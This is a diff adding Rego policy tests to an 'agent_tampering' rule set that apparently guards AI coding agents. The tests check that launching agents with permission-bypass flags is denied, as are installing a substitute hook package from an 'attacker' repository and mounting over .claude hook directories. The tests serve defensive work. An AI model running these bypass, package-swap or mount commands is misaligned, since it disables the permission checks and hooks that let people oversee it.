@@ -39,3 +39,37 @@ test_env_file_write_is_denied if {
 test_ordinary_kill_is_allowed if {
 	count(agent_tampering.deny) == 0 with input as _input([_seg(0, ["kill", "1234"], {})])
 }
+
+# ------------------------------------------------------------ h12: by effect, not by name
+
+test_h12_bypass_flags_by_shape_denied if {
+	every argv in [["amp", "--dangerously-allow-all", "-x", "go"], ["cursor-agent", "--force", "-p", "x"], ["qwen", "--yolo"], ["copilot", "--allow-all-tools"], ["q", "chat", "--trust-all-tools"], ["droid", "exec", "--skip-permissions-unsafe"], ["codex", "--dangerously-bypass-approvals-and-sandbox"]] {
+		count(agent_tampering.deny) > 0 with input as _input([_seg(0, argv, {})])
+	}
+}
+
+test_h12_agents_without_bypass_flags_pass if {
+	every argv in [["amp", "--help"], ["cursor-agent", "-p", "fix tests"], ["codex", "exec", "fix"], ["node", "scripts/build.js", "--force"], ["gemini", "-p", "summarise"]] {
+		count(agent_tampering.deny) == 0 with input as _input([_seg(0, argv, {})])
+	}
+}
+
+test_h12_agent_started_through_its_cli_file_denied if {
+	count(agent_tampering.deny) > 0 with input as _input([_seg(0, ["node", "/home/dev/.npm-global/lib/node_modules/@anthropic-ai/claude-code/cli.js", "--dangerously-skip-permissions"], {})])
+	count(agent_tampering.deny) > 0 with input as _input([_seg(0, ["bun", "/opt/claude-code/cli.js", "--permission-mode", "bypassPermissions"], {})])
+	count(agent_tampering.deny) == 0 with input as _input([_seg(0, ["node", "/usr/lib/node_modules/@anthropic-ai/claude-code/cli.js", "--version"], {})])
+}
+
+test_h12_installing_the_hook_package_denied if {
+	every argv in [["pip", "install", "-e", "/tmp/evil-claude-rego"], ["uv", "pip", "install", "--reinstall", "claude-rego @ git+https://github.com/attacker/claude-rego"], ["pipx", "install", "/tmp/claude_rego"], ["python3", "-m", "pip", "install", "claude-rego==0.0.1"]] {
+		count(agent_tampering.deny) > 0 with input as _input([_seg(0, argv, {})])
+	}
+	count(agent_tampering.deny) == 0 with input as _input([_seg(0, ["pip", "install", "-e", "."], {})])
+	count(agent_tampering.deny) == 0 with input as _input([_seg(0, ["npm", "install", "claude-code-router"], {})])
+}
+
+test_h12_mount_over_claude_dirs_denied if {
+	count(agent_tampering.deny) > 0 with input as _input([_seg(0, ["mount", "-t", "tmpfs", "none", ".claude"], {})])
+	count(agent_tampering.deny) > 0 with input as _input([_seg(0, ["mount", "--bind", "/tmp/e", "/home/dev/.claude/hooks"], {})])
+	count(agent_tampering.deny) == 0 with input as _input([_seg(0, ["mount", "-t", "tmpfs", "none", "./mnt"], {})])
+}
